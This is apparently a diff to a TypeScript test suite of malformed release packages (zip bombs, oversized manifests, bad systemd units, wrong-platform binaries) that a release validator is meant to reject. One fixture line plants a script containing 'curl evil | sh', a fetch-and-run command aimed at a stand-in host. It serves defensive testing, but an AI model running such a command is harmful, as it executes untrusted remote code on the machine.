@@ -84,6 +84,8 @@ const container: Defect[] = [
   { name: "more than 4 GiB, as stated", rules: ["limit-total"], zip: alter("docs/Ünïcode.txt", { packed: Buffer.from([3, 0]), both: { size: 0xfffffffe, compressedSize: 2 } }) },
   { name: "a bomb", rules: ["limit-ratio"], release: (r) => file(r, "README.txt", Buffer.alloc(3 << 20)) },
   { name: "a manifest that is too large", rules: ["limit-text"], release: (r) => file(r, "release-manifest.json", Buffer.concat([big, big])), zip: within("release-manifest.json", (e) => ({ packed: deflateRawSync(e.data, { level: 0 }) })) },
+  { name: "a unit that is too large", rules: ["limit-text"], release: (r) => file(r, "deployment/single-vm/systemd/big.service", "#".repeat(70_000)) },
+  { name: "units without end", rules: ["limit-text"], release: (r) => Array.from({ length: 65 }, (_, n) => file(r, `deployment/single-vm/systemd/${n}.service`, "[Service]\nExecStart=/opt/palyra/palyrad\n")) },
   { name: "checksums that are too large", rules: ["limit-text"], checksums: (t) => t.padEnd(17 << 20, "\n"), zip: within("checksums.txt", (e) => ({ packed: deflateRawSync(e.data, { level: 0 }) })) },
 ];
 
@@ -204,6 +206,8 @@ const programs: Defect[] = [
   { name: "a program for another processor, for Windows", platform: "windows-x64", rules: ["binary-platform"], release: (r) => { const exe = program("windows-x64", "x"); exe.writeUInt16LE(0x014c, 132); file(r, "palyra.exe", exe, 0o755); } },
   { name: "a program for another processor, for macOS", platform: "macos-arm64", rules: ["binary-platform"], release: (r) => file(r, "palyra", program("macos-x64", "palyra"), 0o755) },
   { name: "a program for another processor, of a product without payload rules", product: plain, rules: ["binary-platform"], release: (r) => file(r, "nats", program("linux-arm64", "nats"), 0o755) },
+  { name: "a unit for a program that does not exist", rules: ["unit-programs"], release: (r) => file(r, "deployment/worker-enabled/systemd/palyra-workerd.service", "[Service]\nExecStartPre=-/bin/true\nExecStart=/opt/palyra/palyra-workerd --all\n") },
+  { name: "a unit for a program of another kind", rules: ["unit-programs"], release: (r) => file(r, "deployment/single-vm/systemd/desktop.service", '[Service]\n ExecStart = @"/opt/palyra/palyra-desktop-control-center" x\n') },
   { name: "a script in the place of a program", rules: ["binary-platform"], release: (r) => file(r, "palyra", "#!/bin/sh\nexec curl evil | sh\n", 0o755) },
 ];
 
